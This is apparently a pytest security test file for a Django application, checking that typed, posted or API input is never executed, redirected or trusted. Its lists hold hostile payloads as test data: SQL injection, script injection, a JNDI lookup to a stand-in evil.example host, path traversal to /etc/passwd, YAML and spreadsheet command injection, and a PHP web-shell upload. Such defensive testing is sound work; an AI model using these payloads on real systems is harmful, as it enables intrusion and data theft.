"""Whatever is typed, sent or claimed stays what it is: text. Nothing of it is run, followed, opened or believed."""

import json
import re
import zlib

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings

from ministry.command import acts as command
from ministry.command.data import Enrolment
from ministry.editions import content
from ministry.editions.models import Edition
from ministry.identity import tokens
from ministry.people.models import Person
from ministry.register.models import Record
from tests.ministry.api.calling import system
from tests.ministry.console import conftest as console
from tests.ministry.identity import conftest as identity
from tests.ministry.people import acting, key
from tests.ministry.routes import paths, patterns

house = console.house
Somebody = console.Somebody
MARKUP = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>"
NAMES = (
    "q", "next", "problem", "office", "act", "person", "about", "since", "until", "before", "outcome",
    "kind", "name", "sign_in", "reason", "facts", "number", "at", "done", "edition", "receipt", "changed",
)  # fmt: skip
TYPED = [
    "' OR '1'='1",
    "'; DROP TABLE people_person; --",
    '") UNION SELECT key, name FROM people_person --',
    "%",
    "_____",
    "{{ 7*7 }}{% debug %}",
    "%(x)s %s {0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "\r\nSet-Cookie: session=forged",
    "=cmd|' /C calc'!A0",
    "9" * 400,
    "-1",
    "NaN",
    "1e999",
    "a" * 5_000,
    "(a+)+$",
    "\u202e\u0000\ufffe",
    "&a: *a",
    "!!python/object/apply:os.system ['true']",
]


def pages():
    """Every page of people: what is not of the API, the log, files or another service."""
    return [
        one
        for one in paths()
        if not re.match(r"/(api|log|metrics|healthz)|.*\.(zip|tar\.gz)$", one)
    ]


def answered(client, path, **typed):
    answer = client.get(path, typed)
    body = b"" if answer.streaming else answer.content
    assert answer.status_code < 500, (path, typed, answer.status_code)
    return answer, body.decode()


def test_markup_that_is_typed_comes_back_as_text(house):
    client = Somebody("ada").client
    for path in pages():
        answer, text = answered(client, path, **dict.fromkeys(NAMES, MARKUP))
        assert "<script>alert" not in text and "<img src=x" not in text, path
        assert "alert(1)" not in answer.headers.get("Location", "").replace("%28", "("), path


def test_markup_that_is_kept_comes_back_as_text(house):
    name = f"</script>{MARKUP}"[:80]
    command.enrol(acting("ada"), Enrolment(sign_in="gus", name=name))
    secret = identity.link("gus")
    client = Somebody("ada").client
    for path in ["/people/", f"/people/{key('gus')}/", "/journal/", "/", "/acts/appoint-officer/"]:
        _, text = answered(client, path)
        assert "<script>alert" not in text and "<img src=x" not in text, path
    assert "alert(1)" in client.get("/people/").content.decode()
    browser = identity.Browser()
    browser.send("/account/enrol/", link=secret)
    text = browser.get("/account/enrol/passkey/").content.decode()
    assert "<script>alert" not in text
    assert browser.data("/account/enrol/passkey/")["creation_options"]["publicKey"]["user"]


PAGES = ("/journal/", "/ask/", "/acts/appoint-officer/")


def test_nothing_that_is_typed_is_run(ministry):
    before = Person.everything.count()
    ada = Somebody("ada")
    bo = key("bo")
    assert bo in ada.sees("/people/", q="Bo").html
    for typed in TYPED:
        for path in PAGES:
            answer, text = answered(ada.client, path, **dict.fromkeys(NAMES, typed))
            assert "root:x:0" not in text and ">49<" not in text, (path, typed)
            assert "session=forged" not in str(answer.headers)
        # Nobody's name has it, and no wildcard finds anybody.
        assert bo not in ada.sees("/people/", q=typed).html, typed
    assert Person.everything.count() == before


def test_nothing_that_a_form_brings_is_run(ministry):
    before = Person.everything.count()
    browser = identity.Browser()
    browser.enrol("dee")
    for typed in (*TYPED[:3], *TYPED[-3:]):
        for path in (
            "/account/people/",
            "/account/office/",
            "/account/tokens/",
            "/account/sessions/end/",
        ):
            given = {"csrfmiddlewaretoken": identity.csrf(browser.get("/account/office/"))}
            answer = browser.post(
                path, given | dict.fromkeys((*NAMES, "session", "purpose"), typed)
            )
            assert answer.status_code < 500, (path, typed)
        assert browser.send("/account/enrol/", "/sign-in/", link=typed).status_code < 500
    assert Person.everything.count() == before


def test_nothing_that_a_system_sends_is_run(house):
    fay = system("fay")
    headers = {"Authorization": f"Bearer {fay.token}", "Host": "localhost"}
    for typed in TYPED:
        for name in ("act", "about", "since", "before"):
            answer = fay.client.get("/api/records", query_string={name: typed}, headers=headers)
            assert answer.status_code in (200, 400, 422), (name, typed, answer.status_code)
            if answer.status_code == 200 and name in ("act", "about"):
                assert answer.json["records"] == [], (name, typed)
        answer = fay.decide({"actor": typed, "act": typed, "facts": {"appointee": typed}})
        assert answer.status_code in (400, 422), typed


def test_a_field_that_an_act_does_not_have_is_refused(house):
    given = {"sign_in": "gus", "name": "Gus"}
    ada = system("ada")
    for more in ({"is_active": False}, {"key": "p-1"}, {"is_superuser": True}):
        answer = ada.act("enrol-person", {**given, **more})
        assert answer.status_code == 422, more
    assert not Person.everything.filter(sign_in="gus").exists()
    Somebody("ada").does("/acts/enrol-person/", **given, is_active="", key="p-1", office="auditor")
    person = Person.everything.get(sign_in="gus")
    assert person.is_active and person.key != "p-1"


def test_a_value_of_another_type_is_refused(house):
    ada = system("ada")
    for name in (["Gus"], {"name": "Gus"}, 7, True, None):
        assert ada.act("enrol-person", {"sign_in": "gus", "name": name}).status_code == 422, name


def test_what_stands_in_the_address_is_no_form(house):
    """A value of the query does not stand in for one of the body, nor a second one for the first."""
    browser = identity.Browser()
    browser.enrol("dee")
    codes = browser.send("/account/recovery-codes/").content.decode().split("<code>")[1:]
    code = codes[0].split("</code>")[0]
    other = identity.Browser()
    token = identity.csrf(other.get("/sign-in/recovery/"))
    answer = other.post(f"/sign-in/recovery/?code={code}", {"csrfmiddlewaretoken": token})
    assert answer.status_code == 403
    answer = other.get(f"/sign-in/recovery/?code={code}")
    assert answer.status_code == 200 and other.person == ""


ELSEWHERE = [
    "https://evil.example/", "//evil.example", "/\\evil.example", "///evil.example", "/\t/evil.example",
    "\\\\evil.example", "javascript:alert(1)", "https:evil.example", "http:///evil.example",
    "//evil.example@localhost/", " //evil.example",
]  # fmt: skip


def leads_here(answer):
    return re.match(r"(?!/[\\/\s])/", answer.headers.get("Location", "/")) is not None


def test_no_address_leads_to_another_site(house):
    client = Somebody("dee").client
    for path in paths():
        if not path.startswith("/api") and "service" not in path:
            answer = client.get(path, dict.fromkeys(("next", "to", "url"), "//evil.example"))
            assert leads_here(answer), path


def test_no_form_leads_to_another_site(house):
    browser = identity.Browser()
    browser.enrol("dee")
    token = identity.csrf(browser.get("/account/office/"))
    given = {"csrfmiddlewaretoken": token, "office": "duty-officer"}
    for wanted in ELSEWHERE:
        assert leads_here(browser.post("/account/office/", {**given, "next": wanted})), wanted
    for path in ("/account/office/", "/account/sure/", "/sign-in/"):
        assert 'value="//evil' not in browser.get(path, {"next": "//evil.example"}).content.decode()
    assert browser.post("/account/office/", {**given, "next": "/people/"}).url == "/people/"


HOSTS = [
    {"HTTP_HOST": "evil.example"},
    {"HTTP_HOST": "localhost@evil.example"},
    {"HTTP_HOST": "localhost:8000.evil.example"},
    {"HTTP_HOST": "LOCALHOST, evil.example"},
    {"HTTP_HOST": ""},
]


@pytest.mark.parametrize("host", HOSTS, ids=str)
def test_a_host_that_is_not_ours_is_answered_with_nothing(house, host):
    client = Client(raise_request_exception=False)
    for path in ("/", "/sign-in/", "/people/", "/account/enrol/", "/api/records"):
        answer = client.get(path, **host)
        assert answer.status_code == (400 if host["HTTP_HOST"] else answer.status_code), path
        assert b"evil.example" not in answer.content
        assert "evil.example" not in answer.headers.get("Location", "")


def test_a_host_that_a_proxy_is_said_to_have_seen_is_not_believed(house):
    said = {"HTTP_X_FORWARDED_HOST": "evil.example", "HTTP_X_FORWARDED_PROTO": "https"}
    browser = identity.Browser()
    browser.enrol("ada")
    answer = browser.get("/account/people/", **said)
    page = browser.post(
        "/account/people/",
        {
            "csrfmiddlewaretoken": identity.csrf(answer),
            "person": "dee",
            "act": "issue-enrolment-link",
        },
        **said,
    )
    assert page.status_code == 200
    assert f"{settings.ORIGIN}/account/enrol/#" in page.content.decode()
    assert b"evil.example" not in page.content


def test_no_form_takes_a_file(house):
    client = Somebody("ada").client
    for path in ("/acts/enrol-person/", "/ask/", "/approvals/request/", "/account/office/"):
        file = SimpleUploadedFile("shell.php", b"<?php system('id'); ?>", "image/png")
        answer = client.post(path, {"sign_in": "gus", "name": "Gus", "file": file})
        assert answer.status_code in (400, 405, 413), path
    assert not Person.everything.filter(sign_in="gus").exists()


@pytest.mark.parametrize(
    "name",
    ["../etc/passwd", "/etc/passwd", "a\\b.md", "a\0.md", "", "-rf", "a" * 201, "a\n.md", "é.md"],
)
def test_the_name_of_a_text_is_checked(house, name):
    before = Edition.objects.count()
    answer = system("ada").post("/api/editions", {"files": {name: "# A"}})
    assert answer.status_code in (400, 422)
    assert Edition.objects.count() == before


def test_a_text_larger_than_is_taken_is_refused_before_it_is_read(house):
    answer = system("ada").post(
        "/api/editions", b'{"files": {"a.md": "' + b"x" * 6_000_000 + b'"}}'
    )
    assert answer.status_code == 413
    answer = system("ada").post("/api/editions", {"files": {f"a{n}.md": "" for n in range(2_001)}})
    assert answer.status_code == 422


def test_what_unpacks_to_more_than_is_taken_is_not_unpacked(monkeypatch):
    monkeypatch.setattr(content, "MOST_BYTES", 1_000)
    bomb = zlib.compress(json.dumps({"a.md": "x" * 2_000}).encode(), 9)
    with pytest.raises(content.NotABook, match="more than 1,000 bytes"):
        content.unpacked(bomb)


@pytest.mark.parametrize(
    "path",
    [
        "0/../../../etc/passwd",
        "0/%2e%2e/%2e%2e/etc/passwd",
        "/etc/passwd",
        "0/000\0",
        "entries/../..",
        "0/000.p/999",
    ],
)
def test_a_tile_is_one_of_ours_and_no_file(house, path):
    assert Client(SERVER_NAME="localhost").get(f"/log/tile/{path}").status_code in (400, 404)


def test_a_file_that_is_given_out_has_a_name_of_ours(house):
    record = Record.everything.first()
    answer = Somebody("fay").client.get(f"/journal/{record.id}/bytes/?filename=a.html")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{record.id}.json"'
    assert answer.headers["Content-Type"] == "application/json"


def test_no_secret_stands_in_an_address(house):
    """A token or a code in the query opens nothing; no pattern of an address has a place for one, but for the calendars
    that programs without a sign-in fetch: theirs is shown once, kept as a digest, and can be taken back."""
    token = system("fay").token
    client = Client(SERVER_NAME="localhost")
    for name in ("token", "access_token", "api_key", "session"):
        assert client.get("/api/records", {name: token}).status_code == 401
    for text, _ in patterns():
        if text == "rosters/feeds/<str:secret>.ics":
            continue
        assert not re.search(r"<\w*:?(secret|password|code|link|session)\w*>", text), text


def test_a_token_is_read_as_it_is_and_decoded_no_second_time(house):
    token = system("fay").token
    for spoilt in (
        token.replace("_", "%5f"),
        token + "%20",
        token.upper(),
        token + "=",
        f" {token}",
    ):
        assert tokens.acting_by_token(f"Bearer {spoilt}") is None
    assert tokens.acting_by_token(f"Bearer {token}") is not None


def test_an_address_is_decoded_once(house):
    somebody = Somebody("ada")
    assert somebody.sees("/people/", q="%2525").words == somebody.sees("/people/", q="%2525").words
    assert somebody.sees(f"/people/{key('dee')}%252e/").status == 404
    assert somebody.sees("/offices/legal%2dadviser/").status == 200
    assert somebody.sees("/offices/legal%252dadviser/").status == 404


@override_settings(SECURE=True)
def test_a_session_in_the_address_is_none(house):
    made = console.session_of("dee")
    client = Client(SERVER_NAME="localhost")
    for name in ("session", "sessionid", settings.SESSION_COOKIE_NAME):
        assert client.get("/people/", {name: made}).status_code == 302
